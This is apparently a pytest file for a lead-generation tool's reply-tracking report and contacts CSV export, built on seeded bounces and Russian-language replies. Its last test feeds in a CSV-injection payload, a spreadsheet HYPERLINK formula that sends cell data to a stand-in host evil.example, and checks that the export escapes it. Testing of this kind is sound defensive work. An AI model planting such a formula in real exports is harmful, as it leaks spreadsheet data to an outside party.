"""The loop in `leadgen report` (tables and --json) and the reply columns of the contacts export."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from leadgen.cli.app import app
from leadgen.db.models import Company, MessageStatus, OutreachMessage
from leadgen.exports import export_contacts
from leadgen.mailbox.effects import apply_classification
from leadgen.mailbox.kinds import Classification, MailKind
from leadgen.mailbox.loop_stats import loop_stats
from leadgen.pipeline_stats import daily_summaries, funnel
from leadgen.settings import Settings
from tests.outreach.factories import add_company

NOW = datetime(2026, 12, 7, 11, 0, tzinfo=UTC)
REPLY_TEXT = "Здравствуйте, Анна!\nДа, интересно [/]. Давайте созвонимся в четверг после 15:00.\n\nОльга"
# "[/]" would be Rich markup: a stranger's text must be printed as is


def _sent(session: Session, company: Company, to: str, n: int) -> OutreachMessage:
    row = OutreachMessage(
        company_id=company.id,
        campaign="default",
        to_email=to,
        status=MessageStatus.SENT,
        sent_at=NOW - timedelta(days=2),
        message_id=f"<leadgen.{n}.{'f' * 24}@dentaplan.example>",
    )
    session.add(row)
    session.flush()
    return row


def seed_loop(session: Session, settings: Settings) -> None:
    """Four companies mailed; back came a hard bounce, two soft bounces, a reply, an unsubscribe, an auto-reply."""
    dead = add_company(session, "dead.ru", emails=("old@dead.ru",))
    full = add_company(session, "full.ru", emails=("box@full.ru",))
    warm = add_company(session, "warm.ru", emails=("info@warm.ru", "sales@warm.ru"))
    cold = add_company(session, "cold.ru", emails=("info@cold.ru",))
    rows = [_sent(session, c, to, n) for n, (c, to) in enumerate(
        [(dead, "old@dead.ru"), (full, "box@full.ru"), (warm, "info@warm.ru"), (cold, "info@cold.ru")], 1
    )]  # fmt: skip
    common = {"inbound_message_id": None, "date": NOW - timedelta(hours=1)}
    messages = [
        Classification(MailKind.HARD_BOUNCE, "dsn", ("old@dead.ru",), "5.1.1", rows[0].message_id),
        Classification(MailKind.SOFT_BOUNCE, "dsn", ("box@full.ru",), "4.2.2", rows[1].message_id),
        Classification(MailKind.SOFT_BOUNCE, "dsn", ("box@full.ru",), "4.2.2", rows[1].message_id),
        Classification(
            MailKind.REPLY, "in-reply-to", message_id=rows[2].message_id, sender="olga@warm.ru",
            subject="Re: CRM для клиники", excerpt=REPLY_TEXT, **common,  # type: ignore[arg-type]
        ),
        Classification(
            MailKind.UNSUBSCRIBE, "unsubscribe-ru", message_id=rows[3].message_id, sender="info@cold.ru",
            excerpt="Удалите нас из рассылки.",
        ),
        Classification(MailKind.AUTO_REPLY, "rfc3834", sender="sales@warm.ru", subject="Автоответ: в отпуске"),
    ]  # fmt: skip
    for uid, c in enumerate(messages, 1):
        apply_classification(
            session, c, mailbox="gmail", folder="INBOX", uidvalidity=5, uid=uid, settings=settings, now=NOW
        )


@pytest.fixture
def loop_db(engine: Engine, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Settings:
    with Session(engine) as s, s.begin():
        seed_loop(s, settings)
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    return settings


def test_loop_report_counts_every_kind(engine: Engine, loop_db: Settings) -> None:
    with Session(engine) as s:
        loop = loop_stats(s)
        total = funnel(s)
    counts = (loop.hard_bounces, loop.soft_bounces, loop.replies, loop.unsubscribes, loop.auto_replies)
    assert counts == (1, 2, 1, 1, 1)
    assert (loop.suppressed_by_bounce, loop.addresses_soft_bouncing, loop.suppressed_by_reply) == (1, 1, 1)
    assert loop.companies_replied == 1
    [latest] = loop.latest_replies
    assert (latest.sender, latest.domain) == ("olga@warm.ru", "warm.ru")
    assert (
        latest.first_lines
        == "Здравствуйте, Анна! Да, интересно [/]. Давайте созвонимся в четверг после 15:00. Ольга"
    )
    assert latest.date == (NOW - timedelta(hours=1)).isoformat()
    # bounced and replied rows still count as sent in the funnel and the daily summaries
    with Session(engine) as s:
        assert sum(d.sent for d in daily_summaries(s)) == 4
    assert (total.sent, total.bounced, total.replied) == (4, 2, 1)


def test_cli_report_shows_the_loop(loop_db: Settings) -> None:
    runner = CliRunner()
    result = runner.invoke(app, ["report", "--json"])
    assert result.exit_code == 0, result.output
    loop = json.loads(result.output)["loop"]
    assert (loop["hard_bounces"], loop["soft_bounces"], loop["replies"]) == (1, 2, 1)
    assert loop["latest_replies"][0]["sender"] == "olga@warm.ru"
    result = runner.invoke(app, ["report"], terminal_width=200)
    assert result.exit_code == 0, result.output
    assert "Outreach loop" in result.output and "olga@warm.ru" in result.output
    assert "Здравствуйте, Анна!" in result.output


def test_contacts_export_carries_the_reply(engine: Engine, loop_db: Settings, tmp_path: Path) -> None:
    with Session(engine) as s:
        export_contacts(s, tmp_path / "contacts.csv")
    with (tmp_path / "contacts.csv").open(encoding="utf-8", newline="") as fh:
        rows = {r["value"]: r for r in csv.DictReader(fh)}
    assert "old@dead.ru" not in rows and "info@cold.ru" not in rows  # suppressed addresses are left out
    for address in ("info@warm.ru", "sales@warm.ru"):
        warm = rows[address]
        assert warm["replied_at"] == (NOW - timedelta(hours=1)).isoformat()
        assert warm["reply_from"] == "olga@warm.ru"
        assert warm["reply_excerpt"].startswith("Здравствуйте, Анна! Да, интересно [/].")
    assert (rows["box@full.ru"]["replied_at"], rows["box@full.ru"]["reply_from"]) == ("", "")


def test_a_reply_cannot_put_a_formula_into_the_export(
    engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    with Session(engine) as s, s.begin():
        company = add_company(s, "evil.ru", emails=("info@evil.ru",))
        row = _sent(s, company, "info@evil.ru", 1)
        c = Classification(
            MailKind.REPLY, "in-reply-to", message_id=row.message_id, sender="info@evil.ru",
            excerpt='=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
        )  # fmt: skip
        apply_classification(
            s, c, mailbox="gmail", folder="INBOX", uidvalidity=5, uid=1, settings=settings, now=NOW
        )
    with Session(engine) as s:
        export_contacts(s, tmp_path / "contacts.csv")
    with (tmp_path / "contacts.csv").open(encoding="utf-8", newline="") as fh:
        [evil] = list(csv.DictReader(fh))
    assert evil["reply_excerpt"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
